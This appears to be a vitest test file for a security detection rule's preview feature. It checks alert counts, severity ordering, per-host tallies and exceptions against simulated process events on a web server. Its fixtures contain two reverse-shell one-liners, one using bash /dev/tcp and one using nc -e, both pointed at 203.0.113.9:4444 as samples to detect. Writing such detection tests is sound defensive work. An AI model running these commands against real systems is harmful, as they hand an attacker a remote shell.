import { expect, it } from 'vitest';
import type { SourceEvent } from '../../common/event/source_event';
import { english } from '../../common/i18n/english';
import { extendedRule } from '../../common/rule/extended_rule';
import { toShippedParams, type RuleParams } from '../../common/rule/rule_params';
import { webServerRule } from '../../common/rule/web_server_rule';
import { createEqlEventReader } from '../../test/doubles/eql_event_reader';
import { findPreview } from './find_preview';

const NOON = Date.UTC(2026, 10, 24, 12);
const toTime = (second: number): string => new Date(NOON + second * 1000).toISOString();

const toStart = (
  id: string,
  second: number,
  text: string,
  { host = 'web-1', parentId = 'worker' } = {}
): SourceEvent => ({
  id,
  index: 'logs-endpoint.events.process-default',
  source: {
    '@timestamp': toTime(second),
    event: { category: ['process'], type: ['start'], action: 'exec' },
    host: { id: host, name: host, os: { type: 'linux' } },
    user: { name: 'www-data' },
    process: {
      entity_id: id,
      name: 'sh',
      executable: '/bin/sh',
      args: ['sh', '-c', text],
      command_line: `sh -c ${text}`,
      parent:
        parentId === 'worker'
          ? {
              entity_id: `worker of ${host}`,
              executable: '/usr/sbin/php-fpm8.2',
              name: 'php-fpm8.2',
              args: ['php-fpm: pool www'],
            }
          : { entity_id: parentId, name: 'sh', executable: '/bin/sh', args: ['sh'] },
      Ext: { ancestry: [parentId === 'worker' ? `worker of ${host}` : parentId] },
    },
  },
});
const SHELL = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1';

const preview = (
  events: readonly SourceEvent[],
  {
    rule = extendedRule,
    until = 600,
    now = 3600,
    ...params
  }: Partial<RuleParams> & { rule?: typeof extendedRule; until?: number; now?: number } = {}
) =>
  findPreview({
    rule: {
      uuid: 'preview',
      definition: rule,
      params: { ...toShippedParams(rule), ...params },
      locale: 'en',
    },
    events: createEqlEventReader(events).reader,
    from: toTime(0),
    to: toTime(until),
    now: new Date(NOON + now * 1000),
    translate: english,
    signal: new AbortController().signal,
  });

it('says what a rule would raise: the gravest first, the newest first of those', async () => {
  const found = await preview([
    toStart('old', 0, SHELL),
    toStart('new', 1, SHELL),
    // Elsewhere: neighbours raise each other.
    toStart('mild', 2, 'w', { host: 'web-2' }),
    toStart('quiet', 3, '/usr/bin/convert a.png b.png'),
  ]);
  expect(found).toMatchObject({ matches: 4, isCut: false, alerts: 3, quiet: 1, hidden: 0 });
  expect(found.examples.map(({ eventId }) => eventId)).toEqual(['new', 'old', 'mild']);
  expect(found.examples[0]).toMatchObject({
    host: 'web-1',
    severity: 'critical',
    eventTime: toTime(1),
  });
  expect(found.examples[0]?.reason).toContain('203.0.113.9');
  expect(found.examples[2]?.severity).not.toBe('critical');
});

it('counts for each host, that with the most hits first', async () => {
  const { hosts } = await preview([
    toStart('a', 0, SHELL, { host: 'few' }),
    toStart('b', 1, 'true', { host: 'many' }),
    toStart('c', 2, SHELL, { host: 'many' }),
    toStart('d', 3, SHELL, { host: 'x'.repeat(500) }),
  ]);
  expect(hosts).toEqual([
    { host: 'many', matches: 2, alerts: 1 },
    { host: 'few', matches: 1, alerts: 1 },
    { host: 'x'.repeat(300), matches: 1, alerts: 1 },
  ]);
});

it('shows few of many alerts, and says that it looked at no more than a second’s worth', async () => {
  const many = Array.from({ length: 1001 }, (_, at) => toStart(`s${at}`, at / 10, SHELL));
  const found = await preview(many);
  expect(found).toMatchObject({ matches: 1000, isCut: true, alerts: 1000 });
  expect(found.examples).toHaveLength(20);
  expect((await preview(many.slice(1))).isCut).toBe(false);
});

it('lets the last trees of the period grow as they did, but not beyond now', async () => {
  const events = [
    toStart('root', 50, 'true'),
    toStart('nc', 300, 'nc -e /bin/sh 203.0.113.9 4444', { parentId: 'root' }),
  ];
  expect((await preview(events, { until: 60 })).alerts).toBe(1);
  expect((await preview(events, { until: 60, now: 200 })).alerts).toBe(0);
});

it('counts what exceptions hide, of both kinds of rule', async () => {
  const exceptions = [
    {
      id: 'x',
      query: 'process where process.args : ("*known*", "whoami")',
      comment: '',
      at: toTime(0),
    },
  ];
  const events = [toStart('a', 0, `${SHELL} # known`), toStart('b', 1, SHELL)];
  expect(await preview(events, { exceptions })).toMatchObject({ alerts: 1, hidden: 1, quiet: 0 });
  const short = [toStart('a', 0, 'whoami'), toStart('b', 1, 'id')];
  const ofSeed = await preview(short, { rule: webServerRule, exceptions });
  expect(ofSeed).toMatchObject({ matches: 2, alerts: 1, hidden: 1, quiet: 0 });
  expect(ofSeed.examples[0]).toMatchObject({ severity: 'high', riskScore: 73 });
});
